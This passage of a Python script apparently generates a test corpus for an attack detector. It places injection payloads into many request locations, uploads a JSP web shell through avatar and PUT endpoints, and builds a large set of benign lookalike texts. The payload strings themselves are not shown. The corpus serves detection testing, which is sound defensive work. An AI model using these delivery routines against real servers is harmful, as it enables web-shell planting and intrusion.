        return _req("POST", "/api/users", json_body({"email": "a@example.org"}, name, text, mode),
                    "application/json")
    if place == "cookie":
        cookie = f"session=8f2c1e0b9a; {name}={cookie_value(text, mode)}"
        return _req("GET", "/api/users?page=1", extra={"Cookie": cookie})
    if place.startswith("header:"):
        return _req("GET", "/api/users?page=1", extra={place.split(":", 1)[1]: text})
    if place == "param-name":
        if mode == "qs":
            return _req("GET", f"/api/users?{text}")
        return _req("GET", f"/api/users?{urllib.parse.quote(text, safe='')}=1&page=1")
    if place == "xml":
        return _req("POST", "/api/users", xml_body("user", name, text, mode), "application/xml")
    if place == "multipart-field":
        body = multipart([('name="csrf_token"', "t0k3n", None), (f'name="{name}"', text, None)])
        return _req("POST", "/admin/users/import", body, MP_TYPE)
    if place == "multipart-filename":
        content = JSP_SHELL if i % 2 == 0 else JSP_PROBE
        body = multipart([('name="csrf_token"', "t0k3n", None),
                          (file_disposition(text, mode), content, "application/octet-stream")])
        return _req("POST", "/api/users/42/avatar", body, MP_TYPE)
    assert place == "path", place
    return _req("GET", "/api/users/" + urllib.parse.quote(text, safe=""))


def regression(place: str, text: str, mode: str, i: int) -> dict[str, Any]:
    path = RS_PATHS[i % len(RS_PATHS)]
    name = RS_NAMES[i % len(RS_NAMES)]
    if place == "rs-query":
        return _req("GET", f"{path}?{text}" if mode == "qs" else f"{path}?{name}={url_value(text, mode)}")
    if place == "rs-form":
        body = text if mode == "qs" else f"{name}={url_value(text, mode)}"
        return _req("POST", path, body, "application/x-www-form-urlencoded")
    if place == "rs-json":
        return _req("POST", path, json_body({}, name, text, mode).replace("{, ", "{", 1), "application/json")
    if place == "rs-xml":
        return _req("POST", path, xml_body("root", name, text, mode), "text/xml")
    if place == "rs-raw":
        return _req("POST", path, text, "application/x-www-form-urlencoded")
    if place.startswith("rs-header:"):
        return _req("GET", path, extra={place.split(":", 1)[1]: text})
    if place == "rs-cookie":
        return _req("GET", path, extra={"Cookie": f"{name}={cookie_value(text, mode)}"})
    if place == "rs-multipart-filename":
        content = JSP_PROBE if i % 2 == 0 else JSP_SHELL
        return _req("POST", path, multipart([(file_disposition(text, mode), content, "application/octet-stream")]),
                    MP_TYPE)
    assert place == "rs-path", place
    return _req("PUT", "/uploads/" + urllib.parse.quote(text, safe=""), JSP_SHELL, "application/octet-stream")


def fits(place: str, text: str) -> bool:
    if "header:" in place:
        return header_safe(text)
    return True


class Rotation:
    """Each mode's placements in turn, skipping those a payload cannot take."""

    def __init__(self) -> None:
        self.turn: dict[str, int] = {}

    def next(self, key: str, options: list[str], text: str) -> str:
        n = self.turn.get(key, 0)
        for k in range(len(options)):
            place = options[(n + k) % len(options)]
            if fits(place, text):
                self.turn[key] = n + k + 1
                return place
        raise ValueError(f"no placement for {text!r}")


def attacks() -> Iterator[dict[str, Any]]:
    rot = Rotation()
    n = 0
    for category, sub, payloads in TITLES:
        for text, mode in payloads:
            our_places, rs_places = MODES[mode]
            for side, options in (("ours", our_places), ("rs", rs_places)):
                place = rot.next(f"{side}:{mode}", options, text)
                rec = (ours if side == "ours" else regression)(place, text, mode, n)
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": text}


# ---------------------------------------------------------------------------------------------------------------
# benign: the same words as people type them
SLACK_TEXTS = [
    "the upload handler still uses java.io.File, can someone swap it for java.nio.file.Path?",
    "Runtime.getRuntime().availableProcessors() says 8 on the build box, the pool size follows it",
    "we removed the ProcessBuilder call from the report exporter, it shells out to nothing now",
    "class loader leak in Tomcat again after the redeploy, restarting the pod",
    "who owns the Spring Boot starter for the billing service? the actuator port is 8081",
    "Log4j is on 2.23.1 everywhere, the jndi lookup feature is off by default since 2.17",
    "the Java serialization cookie from the old portal is gone; we use signed JSON now",
    "if a cookie value starts with rO0AB it's base64 Java serialization, we don't accept those anymore",
    "reminder: no ObjectInputStream on anything that comes from the network",
    "Jackson default typing stays off, please don't enable it for the import endpoint",
    "fastjson is banned from the monorepo, use Jackson or Gson",
    "Struts 1 app finally retired, the OGNL talk at lunch was fun",
    "the Commons Collections upgrade to 4.4 is merged",
    "XStream is only used for the legacy config export; allowlist is configured",
    "the JSP pages in the admin console are being ported to Thymeleaf templates",
    "Thymeleaf fragment expressions are nice for the email layouts",
    "FreeMarker templates for invoices live in resources/templates/invoice.ftl",
    "Velocity is still used by the old Confluence macros, nobody touch them please",
    "in Jinja2 use {% raw %} when you need literal braces in the docs page",
    "Twig's autoescape is on by default in the Symfony app, keep it that way",
    "the Handlebars partials for the email footer are in views/partials",
    "Pug indentation broke the layout again, two spaces not tabs",
    "ERB templates in the Rails app: remember to use <%= h(...) %> only where needed",
    "Smarty cache directory needs write permissions on the legacy shop",
    "Node 20 is the baseline now; child_process usage is limited to the build scripts",
    "process.env.NODE_ENV is production on staging too, that's why logging is quiet",
    "use require('node:fs/promises') instead of the callback API in new code",
    "the express app reads config in config/index.js with module.exports",
    "setTimeout with a string argument is flagged by the linter, use a function",
    "the eval() in the old calculator widget has been replaced with a parser",
    "new Function is not allowed by our CSP on the frontend either",
    "prototype pollution fix: we switched lodash.merge to a safe deep-merge",
    "JSON.parse with a reviver drops __proto__ keys now, see the security PR",
    "Object.create(null) for the lookup maps, as discussed",
    "the constructor of the Invoice class validates the currency",
    "the vm module is not a sandbox, we run untrusted formulas in a worker with a timeout",
    "a while(true) loop in the poller pegged one CPU overnight, fixed with a backoff",
    "infinite loop in the retry logic, for(;;) without a break, classic",
    "the worker called process.exit on config errors; now it logs and keeps running",
    "regex backtracking on the email validator took 3s for a long input, we replaced it",
    "Ruby 3.3 upgrade: the Kernel#open pipe behaviour is deprecated, use URI.open or File.open",
    "the rake task uses system('bundle exec rails db:migrate') in CI only",
    "IO.popen is used in the backup script, reviewed by security",
    "the Perl monitoring scripts still run on the old box; qx is used for df output",
    "perl -ne one-liners in the runbook are fine to copy",
    "the CGI scripts under cgi-bin are being decommissioned next sprint",
    "YAML.safe_load everywhere, the psych upgrade flagged two unsafe loads",
    "Marshal.load is gone from the session store, sessions are JSON now",
    "AWS instance metadata: IMDSv2 is enforced on all nodes",
    "the metadata service hop limit is set to 1 for containers",
    "GCP workload identity means no more JSON keys on disk",
    "our internal DNS resolves the registry to 10.0.12.4, VPN needed",
    "the office printer is at 192.168.1.50 if anyone needs it",
    "localhost:8080 is the API, localhost:3000 the frontend",
    "redis runs on port 6379 inside the cluster, not exposed",
    "the webhook tester only allows public URLs now, private ranges are refused",
    "the link preview fetcher refuses 169.254.x.x and RFC1918 addresses",
    "we use gopher as the mascot for the Go guild, stickers arrived",
    "data: URLs for the small icons are inlined by the bundler",
    "the PHP shop reads includes from a fixed list, no user input in include paths",
    "data science sync moved to Thursday",
    "the jsp-to-react migration doc is in Confluence",
    "please don't upload .war files to the shared drive, use the artifact repo",
    "the avatar upload accepts png, jpg and webp only",
    "file names with spaces are fine, the uploader slugifies them",
    "the Java 21 virtual threads demo was impressive",
    "spring cloud config server URL changed, update your bootstrap.yml",
    "the JVM flag -Djava.security.manager is deprecated, dropping it",
    "the class path scanning in startup takes 4 seconds, caching it",
    "deserialization filter jdk.serialFilter is set in the launcher",
    "the Jenkins script console is admin-only, audit logs are on",
    "Groovy sandbox is enabled for pipeline scripts",
    "the template engine for marketing emails is MJML plus Handlebars",
    "jinja macros for the dashboards are in templates/macros.html",
    "the twig extension for money formatting is registered in services.yaml",
    "we render the PDF with Thymeleaf and Flying Saucer",
    "the velocity template for the release notes is in docs/templates",
    "freemarker's ?html built-in is deprecated; auto-escaping covers it",
    "our Ruby gem for the API client is on version 2.4.1",
    "Perl is still the fastest way to munge the legacy CSV exports",
    "the node-serialize package was removed from package.json last year",
    "constructor injection is preferred over field injection in Spring",
    "process mining workshop next week, the consultants from Celonis are coming",
    "the child process runs under a separate user with no shell",
    "the import job spawns a worker per file; max 4 in parallel",
    "timeouts on the metadata fetch were due to the proxy settings",
    "the SSRF talk at the conference covered DNS rebinding, slides are shared",
    "Runtime errors in the mobile app dropped 40% after the release",
    "the Java class for payments is PaymentProcessorImpl, don't ask",
    "the method getRuntimeConfig() returns the merged settings",
    "exec summary for the board is due Friday",
    "system design review at 3pm, bring the diagrams",
    "the classloader isolation in the plugin host is working",
    "we'll deprecate the SOAP endpoint, the XML body parser stays for one more release",
    "the base64 field in the export is just a PNG thumbnail",
    "magic numbers in the parser should be constants, please",
    "the file header check uses the PNG magic bytes",
    "the cache key template is {tenant}:{user}:{page}",
    "in the email template use {{first_name}} and {{company}}, nothing else is supported",
    "the greeting reads Hi ${name}, welcome aboard in the onboarding mail",
    "our wiki supports #{variables} in page templates now",
    "Liquid templates: {% if user.premium %} shows the badge",
    "the i18n strings use {0} and {1} placeholders",
    "the onboarding checklist lives in Notion now",
    "lunch at the Ruby Tuesday near the office?",
    "happy birthday Perla! cake in the kitchen",
    "the Java cafe downstairs has oat milk again",
    "new hire Ruby Chen starts Monday on the data team",
    "pearl jam tickets anyone? I have two spare",
    "the metadata for the photo library includes GPS, strip it on upload",
    "class of 2012 reunion photos are up",
    "the process for expense reports changed, see the finance page",
    "our prototype for the kiosk app demoed well",
    "the template for the quarterly report is in the shared folder",
    "node 3 in the cluster is draining for maintenance",
    "the spring offsite is confirmed for May 14",
    "the runtime of the nightly job went from 40 to 12 minutes",
    "the system is down for maintenance Saturday 02:00-04:00 UTC",
    "the class starts at 9:30, room 127",
    "I'll be out Friday, Ana covers support",
    "the IP allowlist for the partner is 198.51.100.0/24",
    "the VPN gateway moved to 203.0.113.1, update your client",
    "we pay $0.02 per 1k requests, the invoice matches",
    "price went from $19 to ${new_price} in the draft, fix the template variable",
    "the 100.64.0.0/10 range is used by the carrier NAT, not ours",
    "please review PR #4521, it touches the upload filter",
    "the .jsp extension is blocked at the CDN already",
    "the handlebars helper {{formatDate createdAt}} handles time zones now",
    "template literal `Hello ${user.name}` in the toast, looks fine",
    "require.resolve fails in the monorepo because of the symlinks",
    "npm audit found a prototype pollution advisory in minimist, bumped it",
    "the Perl CGI contact form is replaced by the new form service",
    "rails credentials:edit needs the master key from the vault",
    "bundle exec rspec is green on main",
    "the ruby script for the invoice export uses CSV.generate",
    "the cron job calls the perl script every 5 minutes",
    "the apache commons lang upgrade is a no-op for us",
    "the xml export for the accountants uses UTF-8 now",
    "sending the serialized state as base64 in the URL was a bad idea, moving to POST",
    "javax to jakarta namespace migration is 80% done",
    "the Java agent for APM adds 50ms to startup",
]
PUBLIC_URLS = [
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/Runtime.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/io/File.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/constructor",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/filter.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://www.smarty.net/docs/en/language.function.include.tpl",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://perldoc.perl.org/perlop#Quote-and-Quote-like-Operators",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/vulnerabilities/Deserialization_of_untrusted_data",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://github.com/acme/api/blob/main/src/main/java/com/acme/upload/UploadController.java",
    "https://github.com/acme/web/blob/main/views/layouts/main.hbs",
    "https://github.com/acme/shop/tree/main/templates/checkout.tpl",
    "https://example.com/files/report-2024-q1.pdf",
    "https://cdn.example.org/js/app.min.js?v=5.2.0",
    "https://api.example.com/v2/webhooks/incoming?source=github",
    "https://www.example.co.uk/search?q=java+developer&page=2",
    "https://jobs.example.com/listing/ruby-on-rails-engineer",
    "https://blog.example.com/2024/03/12/node-20-upgrade-notes",
    "https://status.example.com/incidents/2024-02-07-metadata-timeouts",
    "https://wiki.example.com/display/ENG/Template+Engines",
    "https://maps.example.com/place/127-Process-Street",
    "https://shop.example.com/products/java-beans-1kg",
    "https://example.com/docs/serialization?format=json",
    "https://hooks.slack.com/services/T0ABC/B0DEF/ghijkl123",
    "https://meet.example.com/room/spring-planning",
    "https://example.com/avatars/ruby-chen.png",
    "https://en.wikipedia.org/wiki/Server-side_request_forgery",
    "https://en.wikipedia.org/wiki/Prototype_pollution",
    "https://en.wikipedia.org/wiki/Log4Shell",
    "https://www.rfc-editor.org/rfc/rfc2397",
    "https://docs.python.org/3/library/pickle.html",
    "https://example.com/img/8.8.8.8-dns.png",
]
PROSE = [
    "Runtime of the migration was 14 minutes, the process took longer than planned",
    "Class of 2019 alumni: Java programming track",
    "Process Street onboarding checklist for new Java developers",
    "Constructor Ltd., 10 Prototype Lane, Bristol",
    "template for the cover letter (Word)",
    "data scheme for the warehouse: star schema with date dimension",
    "metadata quality report, third quarter",
    "Ruby Rhodes, senior engineer, Perl and Ruby background",
    "the system of record is the ERP, not the CRM",
    "execution plan for the Q3 marketing campaign",
    "Spring cleaning of the file server, delete old folders",
    "node count per region, capacity planning sheet",
    "the loop closure at Elm Street is closed for works",
    "while you were out: three calls from the supplier",
    "for your information: the office closes at 5pm on Friday",
    "magic bytes and file signatures (forensics course, week 4)",
    "Java Script and Java are unrelated, says the interview guide",
    "class loader diagrams for the architecture review",
    "JSP to React migration, phase two",
    "the Velocity sales report for the bike shop",
    "Thyme leaf tea, 20 bags, organic",
    "Handlebar moustache wax, 30 g tin",
    "pug puppy adoption form, second page",
    "Smarty pants costume, size M",
    "Twig and Berry florist, invoice 2024-118",
    "Jinja cafe reservation for 6 at 7pm",
    "Freemarker pens, box of 12, blue",
    "Ruby anniversary gift ideas",
    "Pearl necklace, 18 inch, returned",
    "data: attached spreadsheet, see tab 2",
    "IP address change request for the branch office",
    "169 Main Street, Apt 254, Springfield",
    "invoice #127-0-0-1 for the conference room",
    "cloud provider comparison: AWS, GCP, Azure pricing 2024",
    "the instance was stopped for cost reasons",
    "upload the signed contract as PDF, not JPG",
    "rename the file to report_final_v2.docx",
    "the shell company audit was closed without findings",
    "exec committee minutes, March",
    "system requirements: 8 GB RAM, 2 CPUs",
    "prototype review with the design team",
    "the constructor of the new building is Skanska",
    "require two signatures for purchases over $5,000",
    "process improvement ideas from the retro",
    "eval period for the new hire ends in June",
    "Function room booking for the all-hands",
    "module exports for the customs declaration",
    "child process safety training for the daycare staff",
    "global process owner for procure-to-pay",
    "the deserialization of the ledger import failed on row 12 (bad date)",
    "base64 attachment in the email could not be opened",
    "Serialized fiction club: chapter 7 discussion",
    "Perl Harbor documentary screening night",
    "Java Lounge opening hours: 7am to 6pm",
    "Log for J. Smith's time sheet is missing Tuesday",
    "JNDI stands for Java Naming and Directory Interface, glossary entry",
    "the Spring Framework certification is paid by the company",
    "Thymeleaf versus JSP: a comparison for the training plan",
    "Ruby on Rails meetup, talk proposals due Friday",
    "DoS and don'ts of customer service (training)",
    "while(true) and other anti-patterns, internal talk",
    "metadata.google.internal appears in our firewall allowlist review",
    "we reviewed the instance metadata settings for compliance",
    "all node processes restarted after the patch window",
    "Class ticket for the Java course: 250 EUR incl. VAT",
    "template request from legal: NDA v3",
    "ERB stands for Embedded Ruby, see the Rails guide",
    "prototype chain explained in the onboarding doc, section JavaScript",
    "magic link emails expire after 15 minutes",
    "the data URI length limit in old IE was 32 KB",
]
SEARCHES = [
    "java developer", "senior java engineer", "ruby on rails", "perl", "node.js", "nodejs backend", "spring boot",
    "log4j", "jsp", "thymeleaf", "freemarker", "velocity", "handlebars", "pug", "twig", "smarty", "jinja",
    "erb", "template", "templates", "prototype", "constructor", "runtime", "process", "process engineer",
    "class", "classloader", "serialization", "deserialization", "magic bytes", "base64", "metadata",
    "instance metadata", "cloud metadata", "ssrf", "ip address", "192.168", "10.0", "localhost", "127.0.0.1",
    "data scheme", "data:", "ruby chen", "perla gomez", "javier", "java island", "spring", "node", "exec",
    "system", "shell", "upload", "file upload", "jsp upload", "war file", "child process", "eval", "function",
    "module", "require", "import", "export", "json", "xml", "yaml", "soap", "rest api", "graphql", "kotlin",
    "scala", "groovy", "jenkins", "tomcat", "struts", "ognl", "spel", "el expression", "jndi", "ldap", "rmi",
    "dns", "gopher", "dict", "ftp", "sftp", "while loop", "infinite loop", "dos", "ddos protection", "timeout",
    "o'neil", "d'angelo", "müller", "zoë", "björk", "josé", "françois", "#general", "@channel", "50%",
    "q&a", "c++", "c#", "f#", ".net", "asp.net",
]
PROFILES = [
    ("Ruby Chen", "Senior Java Engineer", "Runtime Systems Ltd.", "12 Process Street, Boston, MA"),
    ("Perla Gómez", "Perl and Ruby developer", "Prototype Labs", "Calle Mayor 4, Madrid"),
    ("Javier Node", "Node.js team lead", "Constructor Group", "Spring Road 8, Dublin"),
    ("Thyme Leafson", "Template designer", "Freemarker & Co.", "3 Velocity Way, Austin, TX"),
    ("Sam Twigg", "PHP developer (Twig, Smarty)", "Handlebar Bikes", "7 Pug Lane, Leeds"),
    ("Anna Jinja", "Data scientist", "Metadata Inc.", "169 Main St, Apt 254, Springfield"),
    ("Olga Serial", "QA engineer", "Magic Bytes GmbH", "Klassenweg 5, Berlin"),
    ("Eric B. Rubin", "Rails developer", "ERB Consulting", "Unit 10, 127 High Street, London"),
    ("Nadia Process", "Process owner, procure-to-pay", "Global Process AG", "Bahnhofstr. 1, Zürich"),
    ("Kai Loader", "Platform engineer", "ClassLoader Systems", "Route de Genève 12, Lausanne"),
    ("Lucía Fernández", "Java/Kotlin engineer, Spring and Jakarta EE", "Acme", "Av. Corrientes 1234, Buenos Aires"),
    ("Dmitri Volkov", "SRE, cloud metadata and IAM", "Acme", "Nevsky pr. 28, St Petersburg"),
    ("Aoife O'Brien", "Security engineer (SSRF, deserialization)", "Acme", "14 Grafton St, Dublin 2"),
    ("Chen Wei", "Full-stack, Node and Pug", "Acme", "88 Nanjing Rd, Shanghai"),
    ("Fatima Zahra", "Perl maintainer", "Acme", "Rue de la Liberté 9, Casablanca"),
    ("John Smith", "Log management (Log4j, Logback)", "Acme", "500 Java Drive, Sunnyvale, CA"),
    ("María José", "Template engines and i18n", "Acme", "Plaza Mayor 1, Salamanca"),
    ("Tom Upload", "Documents team", "Acme", "File Street 2, Cork"),
    ("Ruby Rhodes", "Ruby and Ruby on Rails mentor", "Acme", "8 Gem Lane, Sheffield"),
    ("Priya Nair", "Handlebars and Ember developer", "Acme", "MG Road 100, Bengaluru"),
]
BIO_LINES = [
    "I write Java for a living and Perl for fun.",
    "Node.js since 0.10; I still remember callback hell.",
    "Speaker on Spring Boot, Thymeleaf and Java serialization pitfalls.",
    "Ruby enthusiast, maintainer of two small gems.",
    "I build template engines and tiny interpreters on weekends.",
    "Cloud engineer, AWS and GCP, metadata and IAM are my thing.",
    "Former PHP dev (Smarty, Twig), now writing Go.",
    "Front-end dev who loves Pug and Handlebars for quick prototypes.",
    "Security researcher; I give talks on SSRF and prototype pollution (no payloads, just patterns).",
    "Log4j survivor, December 2021.",
]
TEMPLATES = [
    "Hi {{first_name}}, your order {{order_id}} has shipped.",
    "Dear ${customer.name}, your invoice ${invoice.number} is attached.",
    "Hello {{ user.display_name }}, welcome to {{ team.name }}!",
    "Reminder: {{event}} starts at {{time}} in {{room}}.",
    "Your code is {{code}}. It expires in 10 minutes.",
    "Thanks, #{agent_name} from support",
    "Order total: {{total | currency}}",
    "{% if premium %}Premium member{% else %}Free plan{% endif %}",
    "Hi [[name]], your password reset link is below.",
    "Invoice for <%= company_name %> (draft, placeholder from the old Rails mailer)",
    "{name} mentioned you in {channel}",
    "Happy birthday, {{first_name}}! 🎉",
    "Your ticket #${ticket.id} was updated by ${ticket.assignee}.",
    "{{#if overdue}}Payment overdue{{/if}}",
    "Congrats {{name}}! You reached {{points}} points.",
]
FILES = [
    "report.pdf", "Q3 results final.xlsx", "avatar.png", "photo 2024-05-01.jpg", "contract_signed.pdf",
    "java-notes.txt", "jsp-migration-plan.docx", "spring-boot-cheatsheet.pdf", "ruby-gems-list.csv",
    "perl-scripts-inventory.xlsx", "node-upgrade.md", "template-invoice.odt", "class-diagram.png",
    "process-map.vsdx", "metadata-export.json", "serialization-benchmark.csv", "data.csv", "résumé.pdf",
    "screenshot (3).png", "logo.svg", "thymeleaf-email.html.txt", "handlebars-helpers.md", "twig-guide.pdf",
    "prototype v2.fig", "runtime-stats.csv", "localhost-setup.md", "10.0-release-notes.pdf",
    "server.jsp.txt", "backup.war.md5", "README.txt",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605",
    "okhttp/4.12.0", "Java/21.0.2", "Apache-HttpClient/5.3 (Java/17.0.10)", "node-fetch/1.0 (+https://github.com/"
    "bitinn/node-fetch)", "axios/1.6.8", "Ruby", "Faraday v2.9.0", "libwww-perl/6.76", "python-requests/2.31.0",
    "curl/8.6.0", "Go-http-client/2.0", "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
REFERERS = [
    "https://app.example.com/admin/users?q=java",
    "https://www.google.com/search?q=spring+boot+thymeleaf+template",
    "https://duckduckgo.com/?q=node+child_process+docs",
    "https://app.example.com/settings/templates/email?tab=handlebars",
    "https://stackoverflow.com/questions/tagged/ruby-on-rails",
    "https://app.example.com/uploads?type=jsp-notes",
    "https://app.example.com/reports/runtime?range=7d",
    "https://intranet.example.com/wiki/Metadata_Service",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    notes = (_form("/admin/users/notes", [("csrf_token", "t0k3n"), ("user_id", str(40 + k % 9)), ("note", text)])
             for k, text in enumerate(SLACK_TEXTS))
    n = yield from numbered(notes, f"{NAME}-note", n, "form")
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    profiles = []
    for k, (name, title, company, address) in enumerate(PROFILES):
        for bio in (BIO_LINES[k % len(BIO_LINES)], BIO_LINES[(k + 3) % len(BIO_LINES)]):
            profiles.append(_json("/api/users", {"name": name, "title": title, "company": company,
                                                 "address": address, "bio": bio}))
        profiles.append(_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", name), ("company", company)]))
    n = yield from numbered(profiles, f"{NAME}-profile", n, "mixed")
    templates = []
    for k, text in enumerate(TEMPLATES):
        templates.append(_json("/api/users/42", {"notification_template": text, "locale": "en"}))
        templates.append(_json("/api/users/42/settings", {"email_footer": text, "channel": f"team-{k}"}))
    n = yield from numbered(templates, f"{NAME}-template", n, "json")
    uploads = []
    for k, fname in enumerate(FILES):
        body = multipart([('name="csrf_token"', "t0k3n", None),
                          (f'name="file"; filename="{fname}"', f"file {k} contents, plain text", "text/plain")])
        uploads.append(_req("POST", "/api/users/42/avatar", body, MP_TYPE))
    n = yield from numbered(uploads, f"{NAME}-upload", n, "multipart")
    headers = []
    for k, ua in enumerate(UAS):
        headers.append(_req("GET", "/api/users?page=" + str(k + 1), extra={"User-Agent": ua,
                                                                           "Referer": REFERERS[k % len(REFERERS)]}))
    for k, ref in enumerate(REFERERS):
        headers.append(_req("GET", "/api/users/42", extra={"Referer": ref, "Cookie": f"session=ab{k}cd; "
                                                          f"theme=dark; lang=en-GB; last_search=java%20{k}"}))
    yield from numbered(headers, f"{NAME}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
